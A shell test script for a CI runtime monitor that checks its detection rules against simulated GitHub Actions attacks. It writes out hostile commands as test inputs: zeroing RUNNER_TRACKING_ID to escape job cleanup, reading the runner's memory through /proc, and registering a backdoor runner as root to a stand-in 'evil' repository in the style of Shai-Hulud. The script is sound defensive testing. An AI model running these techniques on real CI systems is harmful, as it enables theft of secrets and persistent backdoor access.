#!/bin/sh
# SPDX-License-Identifier: GPL-2.0
#
# A two-step GitHub Actions job played end to end with the shipped rules:
# a stand-in Runner.Worker starts each step with the runner's environment
# (GITHUB_*, the job's RUNNER_TRACKING_ID); step 1 leaves a process behind
# with RUNNER_TRACKING_ID=0 (busybox has no nohup: a plain &), step 2 (a
# uses: step) reads the runner's memory.  `cimon watch --json` must show each alert under its own step,
# and the backdoor install of Shai-Hulud outside any job.  Prints TAP.

n=0
failed=0
ok() { # status description; returns the status
	n=$((n + 1))
	if [ "$1" -eq 0 ]; then
		echo "ok $n $2"
	else
		echo "not ok $n $2"
		failed=$((failed + 1))
	fi
	return "$1"
}

# Lines of $1 with the rule $2, each also containing every other argument.
has() {
	file=$1 rule=$2
	shift 2
	grep -F "\"rule\":\"$rule\"" "$file" >/tmp/has.out || return 1
	for want in "$@"; do
		grep -F "$want" /tmp/has.out >/tmp/has.next || return 1
		mv /tmp/has.next /tmp/has.out
	done
}

# `cimon watch --json` into $1 while the rest of the command line runs,
# then $2 more seconds for the last events.
watched() {
	out=$1 linger=$2
	shift 2
	cimon watch --json >"$out" 2>&1 &
	watcher=$!
	sleep 0.5
	"$@"
	sleep "$linger"
	kill "$watcher"
	wait "$watcher" 2>/dev/null
}

echo "TAP version 13"

cimon rules load /rules/falco_seed.yaml /rules/memory_access.yaml \
	/rules/runner_persistence.yaml /rules/runner_backdoor.yaml \
	>/tmp/load.out 2>&1
ok $? "the shipped rules load"

mkdir -p /tmp/actions-runner/bin
cp /tests/exec_test /tmp/actions-runner/bin/Runner.Worker
# Step 1: a run: step that escapes the cleanup, and one that does not.
# Step 2: a uses: step (tj-actions/changed-files) dumping the runner.
watched /tmp/job.json 1.5 /tmp/actions-runner/bin/Runner.Worker \
	'RUNNER_TRACKING_ID=0 /bin/sleep 1 >/dev/null 2>&1 & /bin/true; :' \
	'head -c 16 /proc/$PPID/mem >/dev/null 2>&1; :'

has /tmp/job.json "GitHub Runner Tracking ID Zeroed in a Job" \
	'"github.action":"step1"' '"github.repository":"octo/app"' \
	'"github.run_id":"4242"' '"proc.env[RUNNER_TRACKING_ID]":"0"'
ok $? "RUNNER_TRACKING_ID=0 typed in step 1 fires under step 1" ||
	sed 's/^/# /' /tmp/job.json
has /tmp/job.json "GitHub Runner Tracking ID Zeroed in a Job" \
	'"github.action":"step2"'
[ $? -ne 0 ]
ok $? "and not under step 2"
has /tmp/job.json "Persistence Across Github Runner Executions Detected"
[ $? -ne 0 ]
ok $? "Falco's rule misses it: the step's shell carries the variable"
has /tmp/job.json "Memory of GitHub Runner Read or Written" \
	'"github.action":"step2"' \
	'"github.action_repository":"tj-actions/changed-files"' \
	'"cimon.event":"mem_open"'
ok $? "the runner's memory read in step 2 fires under step 2 and its action"
has /tmp/job.json "Memory of GitHub Runner Read or Written" \
	'"github.action":"step1"'
[ $? -ne 0 ]
ok $? "and not under step 1"
grep -F '"rule":"GitHub Runner Tracking ID' /tmp/job.json |
	grep -qF '"proc.name":"true"'
[ $? -ne 0 ]
ok $? "a step that keeps the job's tracking id is quiet"

# A double fork does not launder the variable: the process that sets it
# to 0 is orphaned (its step's shell has exited) before it execs, so its
# parent is no longer the step's; the environment it inherited still is.
watched /tmp/orphan.json 2 /tmp/actions-runner/bin/Runner.Worker \
	'(sleep 0.5; RUNNER_TRACKING_ID=0 exec /bin/sleep 1) >/dev/null 2>&1 & exit 0'
has /tmp/orphan.json "GitHub Runner Tracking ID Zeroed in a Job" \
	'"github.action":"step1"' '"proc.name":"sleep"' \
	'"proc.env[RUNNER_TRACKING_ID]":"0"'
ok $? "an orphan that zeroes it fires too: the parent's environment is the inherited one" ||
	sed 's/^/# /' /tmp/orphan.json

# Shai-Hulud's install, outside any job: a runner in a hidden directory
# registered unattended under a known-bad name, as root.
mkdir -p /tmp/home/.dev-env
printf '#!/bin/sh\nexit 0\n' >/tmp/home/.dev-env/config.sh
chmod 755 /tmp/home/.dev-env/config.sh
watched /tmp/worm.json 0.5 sh -c 'cd /tmp/home/.dev-env &&
	RUNNER_ALLOW_RUNASROOT=1 ./config.sh \
	--url https://github.com/evil/repo --unattended --token AAAA \
	--name SHA1HULUD'
for rule in $(grep -o '"rule":"[^"]*"' /tmp/worm.json | sort -u |
	tr ' ' '_'); do
	echo "# fired: $rule"
done
[ "$(grep -c '"rule":' /tmp/worm.json)" -ge 3 ] &&
	! grep -qF '"github.' /tmp/worm.json
ok $? "the backdoor install fires several rules, with no step"

echo "1..$n"
[ "$failed" -eq 0 ]
